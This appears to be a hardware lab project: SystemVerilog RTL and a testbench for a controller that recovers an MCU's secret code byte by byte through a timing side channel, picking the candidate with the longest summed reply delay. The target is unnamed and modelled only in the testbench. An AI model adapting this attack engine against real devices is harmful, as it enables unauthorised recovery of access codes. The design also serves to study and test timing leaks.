trial_scheduler: RTL and testbench

Sequencing controller for the byte-by-byte timing attack: drives the MCU transaction engine (`send_guess`) through every candidate byte `START_GUESS`..8'hFF at each code position. It repeats each candidate `REPEATS` times and accumulates the reply delays. It commits the candidate with the largest accumulated delay, and rescans a position when the winning margin is too small. It sits between the guess-word assembly logic and `send_guess`, and replaces the single-shot guess FSM in the top level.

---
 rtl/attack_pkg.sv | 30 +++
 rtl/max2_tracker.sv | 59 +++++
 rtl/trial_scheduler.sv | 215 +++++++++++++++++++++
 tb/tb_trial_scheduler.sv | 351 +++++++++++++++++++++++++++++++++++
 4 files changed

// File: rtl/attack_pkg.sv
// Shared types and constants for the byte-by-byte timing attack blocks.
package attack_pkg;

    // Bytes 0x00..0x05 are framing bytes of the MCU protocol and are never guessed.
    localparam logic [7:0] PROTO_LAST = 8'h05;
    localparam logic [7:0] GUESS_MIN  = PROTO_LAST + 8'h01;
    localparam logic [7:0] GUESS_MAX  = 8'hFF;

    // Number of candidate values tried per position with the default first guess.
    localparam int unsigned START_GUESS_RANGE = 32'(GUESS_MAX) - 32'(GUESS_MIN) + 32'd1;

    typedef enum logic [3:0] {
        ST_IDLE      = 4'd0,
        ST_LAUNCH    = 4'd1,
        ST_MEASURE   = 4'd2,
        ST_ACCUM     = 4'd3,
        ST_NEXT_CAND = 4'd4,
        ST_DECIDE    = 4'd5,
        ST_COMMIT    = 4'd6,
        ST_DONE      = 4'd7,
        ST_FAULT     = 4'd8
    } sched_state_t;

    // Accumulator width that holds REPEATS samples of DELAY_W bits without overflow.
    function automatic int unsigned acc_width(input int unsigned delay_w,
                                              input int unsigned repeats);
        return delay_w + ((repeats > 1) ? $clog2(repeats) : 0);
    endfunction

endpackage

// File: rtl/max2_tracker.sv
// Tracks the largest and second-largest values seen, plus the tag of the largest.
// Strict comparisons: an equal value never displaces the earlier (lower-tag) winner.
module max2_tracker #(
    parameter int unsigned VAL_W = 16,
    parameter int unsigned TAG_W = 8
) (
    input  logic             clk,
    input  logic             rst_n,
    input  logic             clear,
    input  logic             update,
    input  logic [VAL_W-1:0] val,
    input  logic [TAG_W-1:0] tag,
    output logic [VAL_W-1:0] best,
    output logic [VAL_W-1:0] second,
    output logic [TAG_W-1:0] best_tag
);

    logic [VAL_W-1:0] best_q, best_d;
    logic [VAL_W-1:0] second_q, second_d;
    logic [TAG_W-1:0] tag_q, tag_d;

    // Clear wins over update; otherwise shift best into second on a new maximum.
    always_comb begin
        best_d   = best_q;
        second_d = second_q;
        tag_d    = tag_q;
        if (clear) begin
            best_d   = '0;
            second_d = '0;
            tag_d    = '0;
        end else if (update) begin
            if (val > best_q) begin
                second_d = best_q;
                best_d   = val;
                tag_d    = tag;
            end else if (val > second_q) begin
                second_d = val;
            end
        end
    end

    // State registers.
    always_ff @(posedge clk) begin
        if (!rst_n) begin
            best_q   <= '0;
            second_q <= '0;
            tag_q    <= '0;
        end else begin
            best_q   <= best_d;
            second_q <= second_d;
            tag_q    <= tag_d;
        end
    end

    assign best     = best_q;
    assign second   = second_q;
    assign best_tag = tag_q;

endmodule

// File: rtl/trial_scheduler.sv
// Drives send_guess through every candidate byte at each code position,
// accumulates reply delays and commits the slowest-answering candidate.
module trial_scheduler
    import attack_pkg::*;
#(
    parameter int unsigned CODE_LEN    = 16,
    parameter int unsigned REPEATS     = 4,
    parameter int unsigned DELAY_W     = 24,
    parameter logic [7:0]  START_GUESS = GUESS_MIN,
    parameter int unsigned MARGIN_MIN  = 0,
    parameter int unsigned MAX_RESCAN  = 2,
    parameter int unsigned TIMEOUT     = (2 ** DELAY_W) - 1,
    localparam int unsigned IDX_W      = (CODE_LEN > 1) ? $clog2(CODE_LEN) : 1
) (
    input  logic             CLK_50,
    input  logic             RST_N,
    input  logic             start,
    input  logic             abort,
    input  logic             waiting_for_reply,
    input  logic             correct_flag,
    output logic             begin_transaction,
    output logic [IDX_W-1:0] byte_index,
    output logic [7:0]       guess_byte,
    output logic             commit,
    output logic [7:0]       commit_byte,
    output logic             busy,
    output logic             done,
    output logic             found,
    output logic             fault
);

    localparam int unsigned ACC_W = acc_width(DELAY_W, REPEATS);
    localparam int unsigned REP_W = (REPEATS > 1) ? $clog2(REPEATS) : 1;
    localparam int unsigned RS_W  = (MAX_RESCAN > 0) ? $clog2(MAX_RESCAN + 1) : 1;
    localparam logic [ACC_W:0] MARGIN_LIM = (ACC_W + 1)'(MARGIN_MIN);

    sched_state_t     state_q, state_d;
    logic [IDX_W-1:0] idx_q, idx_d;
    logic [7:0]       guess_q, guess_d;
    logic [DELAY_W-1:0] sample_q, sample_d;
    logic [ACC_W-1:0] acc_q, acc_d;
    logic [REP_W-1:0] rep_q, rep_d;
    logic [RS_W-1:0]  rescan_q, rescan_d;
    logic             found_q, found_d;
    logic [7:0]       commit_byte_q, commit_byte_d;

    logic             trk_clear_c;
    logic             trk_update_c;
    logic [ACC_W-1:0] trk_best, trk_second, margin_c;
    logic [7:0]       trk_tag;
    logic             rescan_c;

    assign trk_update_c = (state_q == ST_NEXT_CAND);
    assign margin_c     = trk_best - trk_second;
    // margin < MARGIN_MIN, written so a zero minimum is never a constant compare.
    assign rescan_c     = (({1'b0, margin_c} + 1'b1) <= MARGIN_LIM) &&
                          (rescan_q < RS_W'(MAX_RESCAN));

    max2_tracker #(
        .VAL_W (ACC_W),
        .TAG_W (8)
    ) u_max2 (
        .clk      (CLK_50),
        .rst_n    (RST_N),
        .clear    (trk_clear_c),
        .update   (trk_update_c),
        .val      (acc_q),
        .tag      (guess_q),
        .best     (trk_best),
        .second   (trk_second),
        .best_tag (trk_tag)
    );

    // Next-state and datapath update; abort overrides every transition.
    always_comb begin
        state_d       = state_q;
        idx_d         = idx_q;
        guess_d       = guess_q;
        sample_d      = sample_q;
        acc_d         = acc_q;
        rep_d         = rep_q;
        rescan_d      = rescan_q;
        found_d       = found_q;
        commit_byte_d = commit_byte_q;
        trk_clear_c   = 1'b0;

        case (state_q)
            ST_IDLE, ST_DONE, ST_FAULT: begin
                if (start) begin
                    state_d     = ST_LAUNCH;
                    idx_d       = '0;
                    guess_d     = START_GUESS;
                    acc_d       = '0;
                    rep_d       = '0;
                    rescan_d    = '0;
                    found_d     = 1'b0;
                    trk_clear_c = 1'b1;
                end
            end
            ST_LAUNCH: begin
                // The first high cycle of the reply already counts as one sample.
                sample_d = '0;
                if (waiting_for_reply) begin
                    state_d  = ST_MEASURE;
                    sample_d = DELAY_W'(1);
                end
            end
            ST_MEASURE: begin
                if (!waiting_for_reply) begin
                    state_d = ST_ACCUM;
                end else if (sample_q == DELAY_W'(TIMEOUT)) begin
                    state_d = ST_FAULT;
                end else if (sample_q != '1) begin
                    sample_d = sample_q + 1'b1;
                end
            end
            ST_ACCUM: begin
                acc_d = acc_q + ACC_W'(sample_q);
                if (rep_q == REP_W'(REPEATS - 1)) begin
                    state_d = ST_NEXT_CAND;
                end else begin
                    rep_d   = rep_q + 1'b1;
                    state_d = ST_LAUNCH;
                end
            end
            ST_NEXT_CAND: begin
                acc_d = '0;
                rep_d = '0;
                if (guess_q == GUESS_MAX) begin
                    state_d = ST_DECIDE;
                end else begin
                    guess_d = guess_q + 8'h01;
                    state_d = ST_LAUNCH;
                end
            end
            ST_DECIDE: begin
                if (rescan_c) begin
                    rescan_d    = rescan_q + 1'b1;
                    trk_clear_c = 1'b1;
                    guess_d     = START_GUESS;
                    state_d     = ST_LAUNCH;
                end else begin
                    commit_byte_d = trk_tag;
                    guess_d       = trk_tag;
                    state_d       = ST_COMMIT;
                end
            end
            ST_COMMIT: begin
                if (correct_flag) begin
                    found_d = 1'b1;
                    state_d = ST_DONE;
                end else if (idx_q == IDX_W'(CODE_LEN - 1)) begin
                    state_d = ST_DONE;
                end else begin
                    idx_d       = idx_q + 1'b1;
                    guess_d     = START_GUESS;
                    rescan_d    = '0;
                    trk_clear_c = 1'b1;
                    state_d     = ST_LAUNCH;
                end
            end
            default: state_d = ST_IDLE;
        endcase

        if (abort) begin
            state_d       = ST_IDLE;
            idx_d         = '0;
            guess_d       = START_GUESS;
            sample_d      = '0;
            acc_d         = '0;
            rep_d         = '0;
            rescan_d      = '0;
            found_d       = 1'b0;
            commit_byte_d = '0;
            trk_clear_c   = 1'b1;
        end
    end

    // State registers with synchronous active-low reset.
    always_ff @(posedge CLK_50) begin
        if (!RST_N) begin
            state_q       <= ST_IDLE;
            idx_q         <= '0;
            guess_q       <= START_GUESS;
            sample_q      <= '0;
            acc_q         <= '0;
            rep_q         <= '0;
            rescan_q      <= '0;
            found_q       <= 1'b0;
            commit_byte_q <= '0;
        end else begin
            state_q       <= state_d;
            idx_q         <= idx_d;
            guess_q       <= guess_d;
            sample_q      <= sample_d;
            acc_q         <= acc_d;
            rep_q         <= rep_d;
            rescan_q      <= rescan_d;
            found_q       <= found_d;
            commit_byte_q <= commit_byte_d;
        end
    end

    assign begin_transaction = (state_q == ST_LAUNCH);
    assign commit            = (state_q == ST_COMMIT);
    assign done              = (state_q == ST_DONE);
    assign fault             = (state_q == ST_FAULT);
    assign busy              = (state_q != ST_IDLE) && (state_q != ST_DONE) &&
                               (state_q != ST_FAULT);
    assign byte_index        = idx_q;
    assign guess_byte        = guess_q;
    assign commit_byte       = commit_byte_q;
    assign found             = found_q;

endmodule

// File: tb/tb_trial_scheduler.sv
// Bench for trial_scheduler: a behavioural MCU answers each transaction with a
// randomised reply length and a reference model picks the expected winner.
module tb_trial_scheduler;

    localparam int unsigned CODE_LEN   = 4;
    localparam int unsigned REPEATS    = 2;
    localparam int unsigned DELAY_W    = 8;
    localparam logic [7:0]  START      = 8'hF8;
    localparam int          START_INT  = 248;
    localparam int          NC         = 256 - START_INT;
    localparam int unsigned MARGIN_MIN = 3;
    localparam int unsigned MAX_RESCAN = 2;
    localparam int unsigned TIMEOUT    = 40;
    localparam int          IDX_W      = 2;

    logic             CLK_50 = 1'b0;
    logic             RST_N;
    logic             start, abort, waiting_for_reply, correct_flag;
    logic             begin_transaction, commit, busy, done, found, fault;
    logic [IDX_W-1:0] byte_index;
    logic [7:0]       guess_byte, commit_byte;

    int total = 0;
    int bad   = 0;

    int  mcu_base, mcu_jit, mcu_bonus;
    bit  mcu_en, mcu_stuck, mcu_busy;
    logic [7:0] secret [CODE_LEN];
    int  lg_guess [$];
    int  lg_d     [$];

    trial_scheduler #(
        .CODE_LEN    (CODE_LEN),
        .REPEATS     (REPEATS),
        .DELAY_W     (DELAY_W),
        .START_GUESS (START),
        .MARGIN_MIN  (MARGIN_MIN),
        .MAX_RESCAN  (MAX_RESCAN),
        .TIMEOUT     (TIMEOUT)
    ) dut (
        .CLK_50            (CLK_50),
        .RST_N             (RST_N),
        .start             (start),
        .abort             (abort),
        .waiting_for_reply (waiting_for_reply),
        .correct_flag      (correct_flag),
        .begin_transaction (begin_transaction),
        .byte_index        (byte_index),
        .guess_byte        (guess_byte),
        .commit            (commit),
        .commit_byte       (commit_byte),
        .busy              (busy),
        .done              (done),
        .found             (found),
        .fault             (fault)
    );

    always #10 CLK_50 = ~CLK_50;

    // Behavioural MCU: reply lasts base + jitter cycles, plus a bonus for the secret byte.
    initial begin : mcu
        int d, lat;
        logic [7:0] g;
        logic [IDX_W-1:0] p;
        mcu_busy = 1'b0;
        forever begin
            @(negedge CLK_50);
            if (mcu_en && begin_transaction) begin
                mcu_busy = 1'b1;
                g = guess_byte;
                p = byte_index;
                if (mcu_stuck) begin
                    @(posedge CLK_50); #1;
                    waiting_for_reply = 1'b1;
                    while (mcu_stuck) @(posedge CLK_50);
                    #1;
                    waiting_for_reply = 1'b0;
                end else begin
                    d = mcu_base + int'($urandom_range(0, mcu_jit)) +
                        ((g == secret[p]) ? mcu_bonus : 0);
                    lg_guess.push_back(int'(g));
                    lg_d.push_back(d);
                    lat = int'($urandom_range(0, 2));
                    @(posedge CLK_50);
                    repeat (lat) @(posedge CLK_50);
                    #1;
                    waiting_for_reply = 1'b1;
                    repeat (d) @(posedge CLK_50);
                    #1;
                    waiting_for_reply = 1'b0;
                end
                mcu_busy = 1'b0;
            end
        end
    end

    initial begin : watchdog
        #1_500_000;
        $display("FAIL watchdog: simulation exceeded time limit");
        $fatal(1, "watchdog expired");
    end

    task automatic wait_mcu_idle();
        int n = 0;
        while (mcu_busy && n < 300) begin
            @(negedge CLK_50);
            n++;
        end
        if (mcu_busy) begin
            total++; bad++;
            $display("FAIL mcu_idle: mcu still busy=%0d after %0d cycles, required 0", mcu_busy, n);
        end
        repeat (3) @(negedge CLK_50);
    endtask

    task automatic test_reset();
        logic [23:0] obs;
        RST_N = 1'b0; start = 1'b0; abort = 1'b0;
        waiting_for_reply = 1'b0; correct_flag = 1'b0;
        repeat (3) @(negedge CLK_50);
        obs = {busy, done, fault, found, begin_transaction, commit, byte_index, guess_byte, commit_byte};
        total++;
        if (obs !== {6'b0, 2'b0, START, 8'h00}) begin
            bad++;
            $display("FAIL reset_outputs: got %h required %h", obs, {6'b0, 2'b0, START, 8'h00});
        end
        RST_N = 1'b1;
        repeat (4) @(negedge CLK_50);
        total++;
        if (busy !== 1'b0 || begin_transaction !== 1'b0) begin
            bad++;
            $display("FAIL idle_hold: busy=%b begin=%b required 0 0", busy, begin_transaction);
        end
    endtask

    // Full attack; found_pos >= CODE_LEN means the MCU never reports a correct word.
    task automatic test_attack(input string name, input int found_pos,
                               input int base, input int jit, input int bonus);
        int sums [NC];
        mcu_base = base; mcu_jit = jit; mcu_bonus = bonus;
        for (int i = 0; i < CODE_LEN; i++) secret[i] = 8'(START_INT + int'($urandom_range(0, NC - 1)));
        lg_guess.delete(); lg_d.delete();
        correct_flag = 1'b0;
        @(negedge CLK_50); start = 1'b1;
        @(negedge CLK_50); start = 1'b0;
        for (int pos = 0; pos < CODE_LEN; pos++) begin
            int cyc = 0;
            bit seen = 1'b0;
            int idx = 0, passes = 0, best_c = 0, m2 = 0, exp_txn;
            bit more = 1'b1, guess_ok = 1'b1;
            logic [7:0] exp_byte;
            while (!seen && cyc < 6000) begin
                @(negedge CLK_50);
                cyc++;
                if (commit === 1'b1) seen = 1'b1;
            end
            if (!seen) begin
                total++; bad++;
                $display("FAIL %s commit_wait pos=%0d: commit=0 after %0d cycles, required 1", name, pos, cyc);
                return;
            end
            // Reference: per pass, sum samples per candidate; widest margin decides.
            while (more) begin
                for (int c = 0; c < NC; c++) sums[c] = 0;
                for (int c = 0; c < NC; c++) begin
                    for (int r = 0; r < int'(REPEATS); r++) begin
                        if (idx < lg_d.size()) begin
                            if (lg_guess[idx] != START_INT + c) guess_ok = 1'b0;
                            sums[c] += lg_d[idx];
                        end
                        idx++;
                    end
                end
                best_c = 0;
                for (int c = 1; c < NC; c++) if (sums[c] > sums[best_c]) best_c = c;
                m2 = 0;
                for (int c = 0; c < NC; c++) if (c != best_c && sums[c] > m2) m2 = sums[c];
                passes++;
                more = ((sums[best_c] - m2) < int'(MARGIN_MIN)) && (passes <= int'(MAX_RESCAN));
            end
            exp_txn  = passes * NC * int'(REPEATS);
            exp_byte = 8'(START_INT + best_c);
            total++;
            if (int'(byte_index) != pos) begin
                bad++;
                $display("FAIL %s commit_index: got %0d required %0d", name, byte_index, pos);
            end
            total++;
            if (commit_byte !== exp_byte) begin
                bad++;
                $display("FAIL %s commit_byte pos=%0d: got %h required %h", name, pos, commit_byte, exp_byte);
            end
            total++;
            if (guess_byte !== exp_byte) begin
                bad++;
                $display("FAIL %s commit_guess pos=%0d: got %h required %h", name, pos, guess_byte, exp_byte);
            end
            total++;
            if (lg_d.size() != exp_txn) begin
                bad++;
                $display("FAIL %s txn_count pos=%0d: got %0d required %0d", name, pos, lg_d.size(), exp_txn);
            end
            total++;
            if (!guess_ok) begin
                bad++;
                $display("FAIL %s candidate_order pos=%0d: got out-of-order guesses required ascending from %h", name, pos, START);
            end
            lg_guess.delete(); lg_d.delete();
            if (pos == found_pos) correct_flag = 1'b1;
            @(negedge CLK_50);
            correct_flag = 1'b0;
            if (pos == found_pos) break;
        end
        total++;
        if (done !== 1'b1 || busy !== 1'b0 || found !== (found_pos < int'(CODE_LEN))) begin
            bad++;
            $display("FAIL %s end_flags: done=%b busy=%b found=%b required 1 0 %b",
                     name, done, busy, found, (found_pos < int'(CODE_LEN)));
        end
        total++;
        if (int'(byte_index) != ((found_pos < int'(CODE_LEN)) ? found_pos : int'(CODE_LEN) - 1)) begin
            bad++;
            $display("FAIL %s end_index: got %0d required %0d", name, byte_index,
                     (found_pos < int'(CODE_LEN)) ? found_pos : int'(CODE_LEN) - 1);
        end
    endtask

    task automatic test_abort_busy_start();
        int n = 0;
        logic [23:0] obs;
        mcu_base = 4; mcu_jit = 2; mcu_bonus = 0;
        @(negedge CLK_50); start = 1'b1;
        @(negedge CLK_50); start = 1'b0;
        while (!(byte_index == 2'd1 && waiting_for_reply && busy && !begin_transaction) && n < 4000) begin
            @(negedge CLK_50); n++;
        end
        total++;
        if (n >= 4000) begin
            bad++;
            $display("FAIL abort_reach_measure: not in MEASURE at index 1 after %0d cycles", n);
            return;
        end
        start = 1'b1;
        @(negedge CLK_50); start = 1'b0;
        total++;
        if (byte_index !== 2'd1 || begin_transaction !== 1'b0 || busy !== 1'b1) begin
            bad++;
            $display("FAIL start_while_busy: idx=%0d begin=%b busy=%b required 1 0 1",
                     byte_index, begin_transaction, busy);
        end
        n = 0;
        while (!(waiting_for_reply && busy && !begin_transaction) && n < 200) begin
            @(negedge CLK_50); n++;
        end
        abort = 1'b1;
        @(negedge CLK_50);
        abort = 1'b0;
        obs = {busy, done, fault, found, begin_transaction, commit, byte_index, guess_byte, commit_byte};
        total++;
        if (obs !== {6'b0, 2'b0, START, 8'h00}) begin
            bad++;
            $display("FAIL abort_outputs: got %h required %h", obs, {6'b0, 2'b0, START, 8'h00});
        end
        wait_mcu_idle();
    endtask

    task automatic test_reset_accum();
        int n = 0;
        bit prev_w = 1'b0;
        logic [23:0] obs;
        mcu_base = 3; mcu_jit = 2; mcu_bonus = 0;
        @(negedge CLK_50); start = 1'b1;
        @(negedge CLK_50); start = 1'b0;
        while (!(prev_w && !waiting_for_reply && busy) && n < 500) begin
            prev_w = waiting_for_reply;
            @(negedge CLK_50); n++;
        end
        @(negedge CLK_50);
        RST_N = 1'b0;
        @(negedge CLK_50);
        obs = {busy, done, fault, found, begin_transaction, commit, byte_index, guess_byte, commit_byte};
        total++;
        if (obs !== {6'b0, 2'b0, START, 8'h00}) begin
            bad++;
            $display("FAIL reset_in_accum: got %h required %h", obs, {6'b0, 2'b0, START, 8'h00});
        end
        RST_N = 1'b1;
        wait_mcu_idle();
    endtask

    task automatic test_timeout();
        int n = 0, meas = 0;
        mcu_base = 2; mcu_jit = 1; mcu_bonus = 0;
        @(negedge CLK_50); start = 1'b1;
        @(negedge CLK_50); start = 1'b0;
        while (commit !== 1'b1 && n < 3000) begin
            @(negedge CLK_50); n++;
        end
        mcu_stuck = 1'b1;
        n = 0;
        while (begin_transaction !== 1'b1 && n < 50) begin
            @(negedge CLK_50); n++;
        end
        n = 0;
        while (fault !== 1'b1 && n < 300) begin
            @(negedge CLK_50); n++;
            if (busy && !begin_transaction && !fault) meas++;
        end
        total++;
        if (meas != int'(TIMEOUT) || fault !== 1'b1) begin
            bad++;
            $display("FAIL timeout_cycles: measure=%0d fault=%b required %0d 1", meas, fault, TIMEOUT);
        end
        total++;
        if (begin_transaction !== 1'b0 || busy !== 1'b0 || byte_index !== 2'd1) begin
            bad++;
            $display("FAIL timeout_flags: begin=%b busy=%b idx=%0d required 0 0 1",
                     begin_transaction, busy, byte_index);
        end
        mcu_stuck = 1'b0;
        wait_mcu_idle();
        lg_guess.delete(); lg_d.delete();
        start = 1'b1;
        @(negedge CLK_50); start = 1'b0;
        total++;
        if (begin_transaction !== 1'b1 || byte_index !== 2'd0 || fault !== 1'b0 || busy !== 1'b1) begin
            bad++;
            $display("FAIL restart_after_fault: begin=%b idx=%0d fault=%b busy=%b required 1 0 0 1",
                     begin_transaction, byte_index, fault, busy);
        end
        abort = 1'b1;
        @(negedge CLK_50); abort = 1'b0;
        wait_mcu_idle();
    endtask

    initial begin : main
        mcu_en = 1'b1; mcu_stuck = 1'b0;
        mcu_base = 3; mcu_jit = 0; mcu_bonus = 0;
        test_reset();
        test_attack("secret", int'(CODE_LEN), 3, 3, 10);
        test_attack("ties", 1, 3, 0, 0);
        test_abort_busy_start();
        test_attack("small_margin", int'(CODE_LEN), 3, 0, 1);
        test_reset_accum();
        test_attack("random", 2, 2, 4, 0);
        test_timeout();
        $display("test done: total=%0d bad=%0d", total, bad);
        $finish;
    end

endmodule
